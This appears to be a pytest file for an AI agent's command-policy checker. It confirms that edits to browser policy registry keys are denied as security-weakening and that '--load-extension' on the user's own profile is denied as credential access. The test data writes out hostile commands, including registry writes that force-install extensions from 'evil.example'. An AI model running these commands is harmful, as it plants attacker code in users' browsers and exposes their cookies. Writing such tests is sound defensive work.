"""A browser's policy keys are a security tool's settings; `--load-extension` on the user's own profile reads its
cookies (S-RULE-171).

Every refusal below passed before: a policy that force-installs an extension (`ExtensionInstallForcelist`) puts
code of the writer's choosing into every page the user opens, and allowing remote debugging by policy undoes
what S-RULE-167 guards; an unpacked extension loaded into the real profile reads every cookie.
"""

from __future__ import annotations

import pytest

from tests._requirements import requirement
from tests.policy.verdicts import ps, verdict

WEAKENING = ("security-weakening", "deny")


@requirement("S-RULE-171")
@pytest.mark.parametrize(
    "command",
    [
        r"New-ItemProperty -Path HKLM:\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist -Name 1 "
        r"-Value 'abcdefghijklmnopabcdefghijklmnop;https://evil.example/update.xml'",
        r'reg add HKCU\Software\Policies\Microsoft\Edge\ExtensionInstallForcelist /v 1 /d "a;https://e.example/u" /f',
        r'reg add HKLM\SOFTWARE\Policies\Google\Chrome /v ExtensionInstallSources /t REG_MULTI_SZ /d "https://e/*" /f',
        r"Set-ItemProperty HKLM:\SOFTWARE\Policies\Google\Chrome -Name RemoteDebuggingAllowed -Value 1",
        r"Set-ItemProperty HKLM:\SOFTWARE\Policies\BraveSoftware\Brave -Name DeveloperToolsAvailability -Value 1",
        r"Remove-Item HKLM:\SOFTWARE\Policies\Mozilla\Firefox -Recurse",
    ],
)
def test_changing_a_browsers_policies_is_security_weakening(command: str) -> None:
    """S-RULE-171: as any security tool's settings."""
    assert ps(command) == WEAKENING


@requirement("S-RULE-171")
def test_the_registry_tool_is_judged_alike() -> None:
    """S-RULE-171: the Registry tool's set of the same value."""
    args = {
        "mode": "set",
        "path": r"HKLM:\SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist",
        "name": "1",
        "value": "abc;https://evil.example/u.xml",
        "type": "String",
    }
    assert verdict("Registry", **args) == WEAKENING


@requirement("S-RULE-171")
@pytest.mark.parametrize(
    "command",
    [
        r"Get-ItemProperty HKLM:\SOFTWARE\Policies\Google\Chrome",
        r"reg query HKLM\SOFTWARE\Policies\Google\Chrome /s",
        r"Set-ItemProperty HKCU:\Software\Google\Chrome -Name x -Value 1",  # not a policy key
        r"Start-Process chrome '--load-extension=C:\t\ext --user-data-dir=C:\Temp\run1'",
    ],
)
def test_reading_policies_and_automation_profiles_stay_ordinary(command: str) -> None:
    """S-RULE-171: reading is allowed; an extension in a profile of its own reads nobody's cookies."""
    assert ps(command) is None


@requirement("S-RULE-171")
def test_an_unpacked_extension_in_the_users_own_profile_is_credential_access() -> None:
    """S-RULE-171: `--load-extension` reads the profile's cookies as remote debugging does (S-RULE-167)."""
    assert ps(r"Start-Process chrome '--load-extension=C:\t\ext'") == ("credential-access", "deny")
    assert ps(r"cmd /c start msedge --load-extension=C:\t\ext") == ("credential-access", "deny")
